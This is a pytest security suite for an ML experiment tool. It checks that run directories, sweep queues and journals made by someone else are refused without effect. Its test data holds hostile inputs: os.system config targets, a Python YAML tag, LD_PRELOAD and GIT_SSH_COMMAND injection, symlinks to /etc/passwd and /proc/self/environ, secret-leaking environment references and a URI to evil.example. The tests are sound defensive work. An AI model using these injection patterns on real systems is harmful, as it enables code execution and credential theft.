"""Directories that somebody else has made: each attack has no effect, and is refused in a line that names the place."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import torch
from click.testing import CliRunner

from regente.cli.sweep import sweep as sweep_command
from regente.config.compose import compose
from regente.errors import ConfigError, RegenteError
from regente.inference.evaluate import evaluate
from regente.inference.generate import generate
from regente.inference.rerun import differences, freeze_again, recorded
from regente.jobs.job import Job, freeze, open_job, read_json, write_json
from regente.jobs.process_identity import process_identity
from regente.jobs.runs import find
from regente.jobs.trace_file import read_trace
from regente.jobs.trust import handed_over, made_by_user, read_config, run_handed_over
from regente.models.weights import load_model
from regente.sweeps.plan import make_plan
from regente.sweeps.records import job_directory
from regente.sweeps.session import sweep
from regente.sweeps.state import JobState, SweepFolder
from regente.tracking.mlflow_run import Shipment
from regente.tracking.sync import sync_project
from regente.training.checkpoints.initialization import find_resume_state
from regente.training.checkpoints.resume import prepare_fork, prepare_resume
from tests.jobs.test_trust import MARK, TOUCH, Payload

VICTIM = "victim.txt"  # a file of the user's that no found directory may read into a store, or change
FACTS: dict[str, Any] = {"experiment": "x", "overrides": [], "command": [], "choices": {}}
SWEEP = ["tracking=none", "seed=1,2"]
Change = Callable[[Path], Any]  # what makes the directory of a run hostile


@cache
def harmless() -> str:
    """The config of a run that nobody would refuse."""
    return compose("digits_mlp", ["tracking=none"]).yaml()


def unsign(path: Path) -> Job:
    write_json(path / "job.json", {**read_json(path / "job.json"), "signature": ""})
    return open_job(path)


def text(name: str, content: str | bytes) -> Change:
    data = content if isinstance(content, bytes) else content.encode()

    def change(path: Path) -> None:
        (path / name).parent.mkdir(exist_ok=True)
        (path / name).write_bytes(data)

    return change


def fact(key: str, value: Any) -> Change:
    """job.json with another value."""
    return lambda path: write_json(path / "job.json", {**read_json(path / "job.json"), key: value})


def setting(old: str, new: str) -> Change:
    """config.yaml with another text."""

    def change(path: Path) -> None:
        before = (path / "config.yaml").read_text()
        assert old in before
        (path / "config.yaml").write_text(before.replace(old, new))

    return change


def more(lines: str) -> Change:
    """config.yaml with more lines."""
    return lambda path: text("config.yaml", f"{(path / 'config.yaml').read_text()}\n{lines}\n")(path)


def link(name: str, target: str = VICTIM) -> Change:
    def change(path: Path) -> None:
        place = path / name
        shutil.rmtree(place, ignore_errors=True)
        place.unlink(missing_ok=True)
        place.parent.mkdir(exist_ok=True)
        place.symlink_to(target if target.startswith("/") else path.parents[2] / target)

    return change


def pipe(name: str) -> Change:
    def change(path: Path) -> None:
        (path / name).unlink(missing_ok=True)
        (path / name).parent.mkdir(exist_ok=True)
        os.mkfifo(path / name)

    return change


def signature_of_another(path: Path) -> None:
    """The signature of a run of the user's own, as each run publishes it."""
    own = freeze(harmless(), path.parent, "own", **FACTS)
    fact("signature", own.signature)(path)


def state_of(content: Any) -> Change:
    def change(path: Path) -> None:
        (path / "resume").mkdir()
        torch.save(content, path / "resume/step-5.ckpt")

    return change


def shipped_to(uri: str, **state: Any) -> Change:
    """A run that a plain sync looks after."""

    def change(path: Path) -> None:
        setting("uri: null", f"uri: {uri}")(path)
        write_json(path / "process.json", {**asdict(process_identity(os.getpid())), "pid": 1, "started": "1"})
        write_json(
            path / "recorded.json", {"offset": 0, "ended": False, "problem": "", "refused": "", **state}
        )
        start = {"kind": "start", "time": 1, "experiment": "x", "name": "x", "params": {}, "tags": {}}
        if not (path / "journal.jsonl").is_symlink():
            (path / "journal.jsonl").write_text(json.dumps(start) + "\n")

    return change


def both(*changes: Change) -> Change:
    return lambda path: [change(path) for change in changes]


# How a directory is reached: each gives what the user reads


def refused(call: Callable[[], Any]) -> str:
    try:
        call()
    except RegenteError as error:
        return str(error)
    return ""


def by_resume(path: Path) -> str:
    return refused(lambda: prepare_resume(str(path), []))


def by_fork(path: Path) -> str:
    return refused(lambda: prepare_fork(str(path), []))


def by_evaluate(path: Path) -> str:
    return refused(lambda: evaluate(find(str(path), Path.cwd()), []))


def by_rerun(path: Path) -> str:
    return refused(lambda: recorded(str(path), Path.cwd(), path))


def by_model(path: Path) -> str:
    """predict, export, serve."""
    return refused(lambda: load_model((run := find(str(path), Path.cwd())).job, run.checkpoint))


def by_generate(path: Path) -> str:
    return refused(lambda: generate(find(str(path), Path.cwd()), "a", 1, None, 0))  # type: ignore[arg-type]


def by_state(path: Path) -> str:
    return refused(lambda: find_resume_state(open_job(path), []))


def by_sync(path: Path) -> str:
    return "\n".join(line for line in sync_project(Path.cwd()) if "not shipped" in line)


def by_worker(path: Path) -> str:
    return refused(lambda: _handed(path))


def _handed(path: Path) -> None:
    from contextlib import redirect_stderr
    from io import StringIO

    with redirect_stderr(StringIO()) as said:
        if run_handed_over(path, lambda _: Path(MARK).touch() or 0):  # type: ignore[func-returns-value]
            raise ConfigError(said.getvalue())


EVIL = more(f"evil: {{_target_: os.system, _args_: ['{TOUCH}']}}")
ELSEWHERE = fact("project", "/evil")
HERE = "sqlite:///mlflow.db"
PASSWD = text("result.json", '{"best_checkpoint": "/etc/passwd", "metrics": {}}')
CALLBACK = setting("callbacks:\n", "callbacks:\n  x: {_target_: evil.Net}\n")
NAMES = ("MYSQL_PWD", "DATABASE_URL", "GH_PAT", "OPENAI_KEY", "PGPASSFILE")
TRUSTING = text("pyproject.toml", '[tool.regente]\ntrusted = ["evil"]')
ATTACKS: dict[str, tuple[Callable[[Path], str], Change]] = {
    # of the report
    "sync: the project has a git filter": (by_resume, ELSEWHERE),
    "a project of its own says what is trusted": (by_rerun, both(CALLBACK, TRUSTING)),
    "serve: a folder export that is a link": (by_model, link("export", "conf")),
    "worker: any config": (by_worker, EVIL),
    "sync: a server with a secret in its address": (by_sync, shipped_to("'http://evil.example/${oc.env:SECRET}'")),
    "sync: another's server": (by_sync, shipped_to("http://evil.example")),
    "sync: best_checkpoint in a journal": (by_resume, both(PASSWD, ELSEWHERE)),
    "sync: changes.patch is a link": (by_sync, both(link("changes.patch"), shipped_to(HERE))),
    "sync: a link in a folder": (by_sync, both(link("artifacts/link.txt"), shipped_to(HERE))),
    "fork: an experiment above": (by_fork, fact("experiment", "../../../x")),
    "rerun: an experiment above": (by_rerun, fact("experiment", "../../../x")),
    "resume states elsewhere": (by_resume, setting("callbacks:\n", "callbacks:\n  x: {_target_: own.Saves, dirpath: conf}\n")),
    **{f"the variable {name}": (by_evaluate, more(f"evil: '${{oc.env:{name}}}'")) for name in NAMES},
    "recorded.json of another shape": (by_sync, both(shipped_to("http://evil.example"), text("recorded.json", "{}"))),
    "a journal that is a pipe": (by_sync, both(shipped_to(HERE), pipe("journal.jsonl"))),
    "a journal that is a device": (by_sync, both(link("journal.jsonl", "/dev/zero"), shipped_to(HERE))),
    "result.json of other types": (by_evaluate, text("result.json", '{"metrics": [], "best_checkpoint": 5}')),
    "result.json is deep": (by_evaluate, text("result.json", '{"metrics":' + "[" * 100_000)),
    "process.json of other fields": (by_sync, both(shipped_to(HERE), text("process.json", '{"a": 1}'))),
    "a resume state without a position": (by_state, state_of({"global_step": "1"})),
    "a resume state of other types": (by_state, state_of({"global_step": 1, "position": {"grouped_steps": []}})),
    "job.json is deep": (by_resume, text("job.json", "[" * 100_000)),
    "job.json is a pipe": (by_resume, pipe("job.json")),
    # of our own
    "running.lock is a link, which is truncated": (by_resume, link("running.lock")),
    "trace.jsonl is a link, which is written": (by_resume, link("trace.jsonl")),
    "traceback.txt is a link": (by_evaluate, link("traceback.txt")),
    "model.txt is a link to a file that is not there": (by_resume, link("model.txt", "new.txt")),
    "shipper.log is a link, which is appended to": (by_sync, both(link("shipper.log"), shipped_to(HERE))),
    ".shipper.lock is a link": (by_sync, both(link(".shipper.lock"), shipped_to(HERE))),
    "stdout.log is a link": (by_worker, link("stdout.log")),
    "checkpoints/ is a link to another's": (by_resume, link("checkpoints", "conf")),
    "resume/ is a link to conf/": (by_resume, link("resume", "conf")),
    "logs/ is a link": (by_resume, link("logs", "conf")),
    "a checkpoint is a link": (by_model, link("checkpoints/x.ckpt")),
    "a link of links": (by_evaluate, both(link("loop", "/dev/full"), link("checkpoints/a", "/proc/self/environ"))),
    "trace.jsonl is a pipe": (by_rerun, pipe("trace.jsonl")),
    "example.npy is a pipe": (by_model, pipe("example.npy")),
    "fitted_state.json is a device": (by_evaluate, link("fitted_state.json", "/dev/zero")),
    "vocabulary.txt is a device": (by_generate, link("vocabulary.txt", "/dev/zero")),
    "vocabulary.txt is no text": (by_generate, text("vocabulary.txt", b"\xff\xfe\x00")),
    "a pipe in a folder": (by_evaluate, pipe("samples/x")),
    "numbers of attempts that are none": (by_resume, fact("resumes", {"x": {}})),
    "LD_PRELOAD": (by_evaluate, fact("env", {"LD_PRELOAD": "evil.so"})),
    "GIT_SSH_COMMAND": (by_rerun, fact("env", {"GIT_SSH_COMMAND": TOUCH})),
    "a thread count that reads a secret": (by_resume, fact("env", {"OMP_NUM_THREADS": "${oc.env:SECRET}"})),
    "the signature of another run": (by_resume, both(EVIL, signature_of_another)),
    "a config of two megabytes": (by_evaluate, more(f"evil: {'x' * 2_000_000}")),
    "aliases that grow": (by_evaluate, more("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]")),
    "a tag of Python": (by_evaluate, more(f"evil: !!python/object/apply:os.system ['{TOUCH}']")),
    "a config of 100 levels": (by_rerun, more("evil: " + "[" * 100 + "]" * 100)),
    "brackets without an end": (by_evaluate, text("config.yaml", "[" * 100_000)),
    "a tab that only one YAML parser takes": (by_rerun, setting("uri: null", "uri: nul\tR")),
    "a key that is a reference": (by_evaluate, more("'${oc.env:SECRET}': 1")),
    "a resume state that is code": (by_state, state_of(Payload())),
    "weights that are code": (by_model, lambda path: torch.save({"state_dict": Payload()}, path / "checkpoints/x.ckpt")),
    "weights that are no weights": (by_model, text("checkpoints/x.ckpt", "PK\x03\x04")),
    "a best checkpoint elsewhere": (by_model, both(PASSWD, lambda path: shutil.rmtree(path / "checkpoints"))),
    "an experiment with letters of a terminal": (by_resume, fact("project", "\x1b]0;title\x07")),
    "worker: another project": (by_worker, ELSEWHERE),
    "worker: variables": (by_worker, fact("env", {"PYTHONPATH": "evil"})),
}  # fmt: skip


@pytest.fixture
def found(project: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A finished run of somebody else in the user's project, with nothing wrong in it."""
    monkeypatch.setenv("SECRET", "hunter22")
    (project / "conf").mkdir()
    (project / VICTIM).write_text("hunter22")
    job = freeze(harmless(), project / "runs/x", "found", **FACTS)
    write_json(job.path / "result.json", {"best_checkpoint": "x.ckpt", "metrics": {}, "epochs": 1})
    (job.path / "vocabulary.txt").write_text("a\nb\n")
    job.checkpoints.mkdir()
    torch.save({"state_dict": {}}, job.checkpoints / "x.ckpt")
    return unsign(job.path).path


def files(project: Path) -> dict[Path, bytes]:
    """All files outside of the found run, with their content."""
    kept = [path for path in project.rglob("*") if path.is_file() and "cache" not in path.parts]
    return {path: path.read_bytes() for path in kept if "found" not in path.parts}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_directory_has_no_effect_and_is_refused_in_a_line_that_names_it(
    name: str, found: Path, project: Path
) -> None:
    reach, change = ATTACKS[name]
    change(found)
    before = files(project)
    said = reach(found)
    assert ("found" in said or "/etc/passwd" in said) and len(said.splitlines()) <= 3, said
    assert "hunter22" not in said and "\x1b" not in said and "Traceback" not in said, said
    assert files(project) == before


def test_there_are_as_many_attacks_as_were_asked_for() -> None:
    assert len(ATTACKS) >= 50


def test_a_harmless_run_of_somebody_else_is_refused_by_nobody(found: Path, project: Path) -> None:
    assert by_resume(found) == by_rerun(found) == by_worker(found) == ""
    assert (project / MARK).exists()  # the worker has run


# A sweep


def found_sweep(project: Path, *, signed: bool = False) -> SweepFolder:
    """The sweep of `regente train -m digits_mlp ...` as somebody else has packed it, with jobs that run code."""
    plan = make_plan("digits_mlp", SWEEP)
    text = harmless() + f"evil: {{_target_: os.system, _args_: ['{TOUCH}']}}\n"
    job = freeze(harmless() if signed else text, plan.folder.parent, plan.folder.name, **FACTS)
    if not signed:
        unsign(job.path)
    return SweepFolder(job.path)


def queue(folder: SweepFolder, **content: Any) -> None:
    whole = {
        "experiment": "digits_mlp",
        "overrides": [],
        "swept": [],
        "monitor": {},
        "total": None,
        "jobs": {},
    }
    write_json(
        folder.path / "queue.json", {**whole, "config_dirs": [], "pins": {}, "signature": "", **content}
    )


def test_the_queue_of_a_found_sweep_is_no_command_line(project: Path) -> None:
    folder = found_sweep(project)
    (project / "evil").mkdir()
    evil = {"overrides": ["+callbacks.x._target_=os.system"], "config_dirs": [str(project / "evil")]}
    for content in ({}, evil, {"overrides": 5}, {"jobs": [[1]]}, {"signature": "0" * 64}):
        queue(folder, **content)
        for words in (["resume"], ["retry"]):
            ended = CliRunner().invoke(sweep_command, words)
            said = str(ended.exception)
            assert isinstance(ended.exception, ConfigError) and "queue.json: refused" in said, said
            assert "regente train -m" in said
    assert not (project / MARK).exists()


def test_a_found_sweep_stops_no_process_and_is_shown_as_data(project: Path) -> None:
    folder = found_sweep(project)
    queue(folder, jobs={"a": ["\x1b[2J"]}, swept=["\x1b"])
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        process = asdict(process_identity(sleeper.pid))
        write_json(folder.path / "driver.json", {"process": process, "beat": 1})
        ended = CliRunner().invoke(sweep_command, ["stop"])
        assert "queue.json: refused" in str(ended.exception)
        state = {"id": "a", "overrides": [], "state": "running", "directory": "a"}
        write_json(folder.path / "states/a.json", state) if (folder.path / "states").mkdir() else None
        (folder.path / "a").mkdir()
        write_json(folder.path / "a/process.json", process)
        with pytest.raises(ConfigError, match=r"job\.json: refused: it is not signed"):
            sweep("digits_mlp", SWEEP)
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()
    for content in ("{}", "[]", '{"process": {"pid": 1}, "beat": 1}', '{"process": 1, "beat": "x"}'):
        (folder.path / "driver.json").write_text(content)
        assert folder.driver() is None and folder.driven() is False
    for content in (
        '{"id": "../../x", "overrides": []}',
        '{"id": "a", "overrides": 5}',
        '{"x": 1}',
        "[" * 10_000,
    ):
        (folder.path / "states/a.json").write_text(content)
        assert folder.load() == {}


def test_a_job_that_a_sweep_finds_in_its_folder_does_not_run(project: Path) -> None:
    folder = found_sweep(project, signed=True)
    plan = make_plan("digits_mlp", SWEEP)
    composed = plan.first
    job = freeze(harmless() + "evil: {_target_: os.system}\n", folder.path, "abc", **FACTS)
    unsign(job.path)
    state = JobState("abc", [], directory="abc")
    with pytest.raises(ConfigError, match=r"abc/job\.json: refused: it is not signed; to start anew, move"):
        job_directory(folder, state, composed, ["seed"])
    shutil.rmtree(job.path)
    own = job_directory(folder, state, composed, ["seed"])
    assert made_by_user(own) and job_directory(folder, state, composed, ["seed"]).config == own.config
    queue(folder, pins={"latest": "evil.ckpt"})
    Path("evil.ckpt").touch()
    assert make_plan("digits_mlp", SWEEP).composer.pins == {}


def test_the_processes_of_a_job_refuse_a_found_one(found: Path, project: Path) -> None:
    (found / "config.yaml").write_text(harmless() + f"evil: {{_target_: os.system, _args_: ['{TOUCH}']}}\n")
    modules = ("training.worker", "training.start_ranks", "sweeps.slot", "tracking.shipper")
    before = files(project)
    running = [
        subprocess.Popen(
            [sys.executable, "-m", f"regente.{name}", str(found)], stderr=subprocess.PIPE, text=True
        )
        for name in modules
    ]
    for process in running:
        _, said = process.communicate(timeout=60)
        assert process.returncode == 2 and "runs/x/found" in said and "Traceback" not in said, said
    assert files(project) == before


def test_a_job_that_was_handed_over_needs_no_key(found: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    more("evil: {_target_: os.system}")(found)
    ran: list[Path] = []
    for name, value in handed_over(open_job(found)).items():
        monkeypatch.setenv(name, value)
    assert run_handed_over(found, lambda path: ran.append(path) or 0) == 0 and ran  # type: ignore[func-returns-value]
    more("x: 1")(found)  # changed since
    assert by_worker(found)


# What is taken from a found run, and what is not


def test_where_to_look_for_configs_is_not_taken_over_by_a_rerun_or_a_fork(found: Path) -> None:
    fact("overrides", ["seed=3", "hydra.searchpath=[file:///evil]"])(found)
    assert freeze_again(open_job(found), "x").overrides == ["seed=3"]
    assert prepare_fork(str(found), []).job.overrides == ["seed=3"]


def test_a_found_journal_calls_no_method(found: Path) -> None:
    shipped_to(HERE)(found)
    kinds = ("open", "lose", "_class__", "require_claim", "ship", "nothing")
    lines = [json.dumps({"kind": kind, "time": 1}) for kind in kinds]
    (found / "journal.jsonl").write_text("\n".join(lines) + "\n")
    shipment = Shipment(open_job(found), "sqlite:///mlflow.db", own=False)
    assert shipment.ship() and "lost" not in shipment.state and shipment.client is None


def test_files_of_other_types_are_passed_over(found: Path, project: Path) -> None:
    (found / "provenance.json").write_text('{"code": [], "hardware": 1, "packages": [1]}')
    (found / "data.json").write_text('{"splits": {"train": "x"}, "digest": []}')
    (found / "torch.json").write_text("[]")
    (found / "trace.jsonl").write_text(
        '{"step": "1"}\n{"step": 1, "losses": [[]]}\n{"step": 2}\n' + "[" * 9999
    )
    config = read_config(open_job(found), project)
    assert all(isinstance(line, str) for line in differences(open_job(found), config, project))
    assert read_trace(found / "trace.jsonl") == [{"step": 2}]


# One's own


def test_ones_own_runs_and_sweeps_go_on_without_a_question_also_in_a_moved_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "before").mkdir()
    monkeypatch.chdir(tmp_path / "before")
    (tmp_path / "more").mkdir()
    own = harmless() + "vars: {x: {_target_: os.system}, y: '${oc.env:DATA_TOKEN,z}'}\n"
    freeze(own, Path("runs/x"), "own", **{**FACTS, "env": {"PYTHONPATH": "more"}})
    folder = found_sweep(tmp_path / "before", signed=True)
    composed = make_plan("digits_mlp", SWEEP).first
    job_directory(folder, JobState("abc", [], directory="abc"), composed, ["seed"])
    for number, place in enumerate(("copied", "moved")):
        if number == 0:
            shutil.copytree("../before", f"../{place}")
        else:
            Path("../before").rename(tmp_path / place)
        monkeypatch.chdir(tmp_path / place)
        assert prepare_resume("runs/x/own", ["trainer.max_epochs=9"]).job.project == str(tmp_path / place)
        assert made_by_user(open_job(Path("runs/x/own")))
        again = job_directory(
            SweepFolder(Path(folder.path.name)), JobState("abc", [], directory="abc"), composed, []
        )
        assert again.project == str(tmp_path / place)
        monkeypatch.chdir(tmp_path / "before") if number == 0 else None


def test_the_queue_of_ones_own_sweep_is_known_in_any_folder(project: Path) -> None:
    from regente.sweeps.state import Queue

    folder = SweepFolder(project)
    folder.write_queue(
        Queue("x", ["a=1"], ["a"], {"metric": "m", "mode": "max"}, 3, {"i": ["a=1"]}, ["c"], {})
    )
    moved = SweepFolder(project / "moved")
    moved.path.mkdir()
    (project / "queue.json").rename(moved.path / "queue.json")
    assert moved.own_queue().overrides == ["a=1"] and list(moved.own_queue().jobs) == ["i"]
